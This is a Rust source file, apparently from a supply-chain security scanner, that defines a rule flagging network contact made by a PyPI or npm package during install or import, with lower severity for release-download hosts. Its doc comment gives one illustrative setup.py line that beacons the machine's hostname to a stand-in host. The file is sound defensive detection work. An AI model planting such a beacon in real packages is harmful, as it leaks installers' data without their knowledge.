use std::collections::BTreeSet;

use ossprey_model::{Category, Finding, Severity};

use super::events::{behaviour_finding, egress, phases};
use super::{BehaviourInput, BehaviourRule, behaviour_rule};

/// Hosts that serve release downloads of tools and prebuilt binaries: an install
/// step fetching from them is a known benign pattern (prebuilt native addons), so it
/// weighs less — but it is still reported, since payloads are hosted there too.
const RELEASE_HOSTS: &[&str] = &[
    "github.com",
    "objects.githubusercontent.com",
    "codeload.github.com",
    "nodejs.org",
    "unofficial-builds.nodejs.org",
    "cdn.npmmirror.com",
];

/// ## What it does
/// Reports each host the package's install or import phase reached on the network —
/// a TCP connection, a UDP datagram, or a DNS query for a name it then did not connect
/// to — other than its own registry (`pypi.org`/`files.pythonhosted.org` for PyPI,
/// `registry.npmjs.org` for npm) and loopback. Connections to bare IP addresses are
/// left to `DYN-RAW-IP-CONNECT`. The execute phase is not judged here: calling a
/// library may legitimately use the network.
///
/// ## Why is this bad?
/// Installing or importing a package needs nothing from the network beyond its
/// registry (the sandbox installs without dependencies). Beacons, credential uploads
/// and second-stage downloads all show up here. Prebuilt-binary downloads from
/// release hosts such as `github.com` are the one common benign case and weigh less.
///
/// ## Example
/// ```python
/// # setup.py
/// urllib.request.urlopen("http://collector.example/ping?h=" + socket.gethostname())
/// ```
#[derive(Debug)]
pub struct InstallImportNetwork;

behaviour_rule!(
    InstallImportNetwork,
    "DYN-INSTALL-IMPORT-NETWORK",
    Category::NETWORK,
    "network traffic during install or import to anything but the package's registry"
);

impl BehaviourRule for InstallImportNetwork {
    fn check_behaviour(&self, input: &BehaviourInput<'_>, out: &mut Vec<Finding>) {
        for (key, phase) in phases(input.dynamic) {
            if key == "execute" {
                continue;
            }
            let mut seen = BTreeSet::new();
            for d in egress(phase, input.ecosystem()) {
                if d.raw_ip || !seen.insert((d.host.to_ascii_lowercase(), d.port)) {
                    continue;
                }
                let host = d.host.trim_end_matches('.').to_ascii_lowercase();
                let release = RELEASE_HOSTS.contains(&host.as_str());
                let severity = if release {
                    Severity::Medium
                } else {
                    Severity::High
                };
                let port = d.port.map(|p| format!(":{p}")).unwrap_or_default();
                out.push(behaviour_finding(
                    self,
                    severity,
                    format!(
                        "{key} phase contacted {}{port}{}",
                        d.host,
                        if release {
                            " (a release-download host)"
                        } else {
                            ""
                        }
                    ),
                    key,
                    d.kind,
                    d.event,
                    &d.summary,
                ));
            }
        }
    }
}
